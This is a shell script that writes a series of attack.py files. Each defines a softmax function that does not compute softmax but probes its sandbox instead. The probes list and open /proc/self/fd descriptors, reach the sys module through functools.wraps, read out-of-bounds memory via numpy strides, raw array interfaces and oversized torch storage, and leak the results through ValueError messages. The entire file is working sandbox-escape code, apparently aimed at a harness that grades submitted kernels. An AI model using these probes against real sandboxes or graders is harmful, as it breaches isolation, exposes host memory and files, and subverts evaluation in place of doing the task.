mk() { mkdir -p "$1"; cat > "$1/attack.py"; }
mk 22_wraps_copies_state <<'EOF'
import functools
import warnings
import tqdm
import torch
import torch.nn.functional as F
from torch import Tensor


def _host():
    return 0


def _host2():
    return 0


def softmax(x: Tensor, dim: int = -1) -> Tensor:
    functools.wraps(warnings.catch_warnings())(_host)
    functools.wraps(tqdm.tqdm([], disable=True))(_host2)
    names = [n for n in dir(_host) + dir(_host2) if not n.startswith("__")]
    m = getattr(_host, "_mod" + "ule")
    raise ValueError("GOT " + repr(names)[:250] + " | " + repr(m) + " | " + repr(getattr(m, "sy" + "s", None)))
EOF
mk 29_fd_open <<'EOF'
import os
import torch
import torch.nn.functional as F
from torch import Tensor


def softmax(x: Tensor, dim: int = -1) -> Tensor:
    fds = os.listdir("/proc/self/fd")
    where = [os.path.realpath("/proc/self/fd/" + f) for f in fds]
    f = open(int(fds[-1]), "rb", closefd=False)
    raise ValueError("GOT " + repr(list(zip(fds, where)))[:300] + " | " + repr(f))
EOF
mk 30_numpy_as_strided <<'EOF'
import numpy as np
import torch
from torch import Tensor


def softmax(x: Tensor, dim: int = -1) -> Tensor:
    a = np.zeros(2, dtype=np.uint8)
    w = np.lib.stride_tricks.as_strided(a, shape=(4096,), strides=(1,))
    raise ValueError("GOT " + repr(bytes(w[16:80])))
EOF
mk 31_array_interface <<'EOF'
import numpy as np
import torch
from torch import Tensor


class Raw:
    def __init__(self, addr):
        self.addr = addr

    @property
    def __array_interface__(self):
        return {"shape": (64,), "typestr": "|u1", "data": (self.addr, True), "version": 3}


def softmax(x: Tensor, dim: int = -1) -> Tensor:
    a = np.asarray(Raw(id(x)))
    raise ValueError("GOT " + repr(bytes(a)))
EOF
mk 32_property_fget <<'EOF'
import torch
import torch.nn.functional as F
from torch import Tensor


class Box:
    state = property(lambda self: vars(self))
    keys = property(lambda self: self.__dict__)


def softmax(x: Tensor, dim: int = -1) -> Tensor:
    got = Box.keys.fget(F.softmax)
    raise ValueError("GOT " + repr(sorted(got))[:300])
EOF
mk 33_methodtype_rebind <<'EOF'
import contextlib
import warnings
import torch
import torch.nn.functional as F
from torch import Tensor


class Box:
    def state(self):
        return vars(self)


def softmax(x: Tensor, dim: int = -1) -> Tensor:
    bound = Box().state
    again = contextlib.MethodType(Box.state, warnings.catch_warnings())
    raise ValueError("GOT " + repr(again())[:300])
EOF
mk 34_torch_set_storage <<'EOF'
import torch
from torch import Tensor


def softmax(x: Tensor, dim: int = -1) -> Tensor:
    a = torch.zeros(2, dtype=torch.uint8)
    b = torch.empty(0, dtype=torch.uint8).set_(a.untyped_storage(), 0, (4096,), (1,))
    raise ValueError("GOT " + repr(b[16:64].tolist()))
EOF
mk 35_numpy_ndarray_buffer <<'EOF'
import numpy as np
import torch
from torch import Tensor


def softmax(x: Tensor, dim: int = -1) -> Tensor:
    base = np.zeros(2, dtype=np.uint8)
    w = np.ndarray(shape=(4096,), dtype=np.uint8, buffer=base, offset=0, strides=(1,))
    v = np.lib.stride_tricks.sliding_window_view(base, 1)
    raise ValueError("GOT " + repr(bytes(w[16:80])) + repr(v))
EOF
